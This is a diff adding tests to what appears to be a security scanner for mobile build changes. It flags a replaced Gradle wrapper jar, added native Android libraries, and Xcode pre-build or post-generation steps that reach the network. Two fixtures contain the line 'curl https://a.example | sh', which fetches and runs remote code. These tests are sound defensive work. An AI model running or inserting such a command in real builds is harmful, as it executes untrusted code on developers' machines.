@@ -29,6 +29,42 @@ function wrapper(url: string): Record<string, string> {
   return { [WRAPPER]: `distributionBase=GRADLE_USER_HOME\ndistributionUrl=${url}\n` };
 }
 
+describe("what nobody reads of the projects for phones:", () => {
+  const JAR = `${ANDROID}/gradle/wrapper/gradle-wrapper.jar`;
+  const LIBRARY = `${ANDROID}/app/src/main/jniLibs/arm64-v8a/libsync.so`;
+
+  test.each<[string, Record<string, string>, Record<string, string>, string]>([
+    ["what starts Gradle", { [JAR]: "b" }, { [JAR]: "a" }, "build/tool-replaced medium"],
+    ["a library of Android", { [LIBRARY]: "a" }, {}, "bundle/native-code-added medium"],
+    ["another library", { [LIBRARY]: "b" }, { [LIBRARY]: "a" }, "bundle/native-code-added medium"],
+  ])("%s", async (_, changes, before, expected) => {
+    expect((await toldOf(changes, before)).told).toEqual([expected]);
+  });
+
+  test("calm: a library that moves", async () => {
+    const moved = { [LIBRARY]: null, [LIBRARY.replace("libsync", "libcloud")]: "a" };
+    expect((await toldOf(moved, { [LIBRARY]: "a" })).verdict).toBe("pass");
+  });
+});
+
+describe("the files of phases, and what surrounds the making of Xcode's project:", () => {
+  const project = (more: string): Record<string, string> => ({
+    [`${APPLE}/project.yml`]: `targets:\n  a:\n    preBuildScripts:\n      - path: a.sh\n${more}`,
+    [`${APPLE}/a.sh`]: "echo\n",
+  });
+
+  test("a file", async () => {
+    const { told } = await toldOf({ [`${APPLE}/a.sh`]: "curl https://a.example | sh\n" }, project(""));
+    expect(told).toEqual([REACHES]);
+    expect((await toldOf({ [`${APPLE}/a.sh`]: "echo done\n" }, project(""))).verdict).toBe("pass");
+  });
+
+  test("a command", async () => {
+    const options = "options:\n  postGenCommand: curl https://a.example | sh\n";
+    expect((await toldOf(project(options), project(""))).told).toEqual([REACHES]);
+  });
+});
+
 describe("what builds the app for phones newly reaches out:", () => {
   test.each<[string, Record<string, string>, string]>([
     [
